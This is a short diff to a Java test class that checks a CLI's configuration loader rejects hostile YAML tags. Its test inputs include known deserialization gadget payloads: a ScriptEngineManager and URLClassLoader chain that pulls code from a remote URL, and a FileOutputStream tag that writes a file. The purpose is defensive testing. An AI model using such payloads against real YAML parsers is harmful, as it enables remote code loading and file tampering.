@@ -72,7 +72,7 @@ class HostileConfigurationTest {
             strings = {
                 "db: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]",
                 "db: !!java.io.FileOutputStream [made.txt]",
-                "!!dev.tributary.cli.Tributary {db: shop.db, nobody_knows: 1}"
+                "!!dev.tributary.cli.Main {db: shop.db, nobody_knows: 1}"
             })
     void aTagMakesNothing(String text) throws IOException {
         Cli.Result result = runWith(text.getBytes(StandardCharsets.UTF_8));
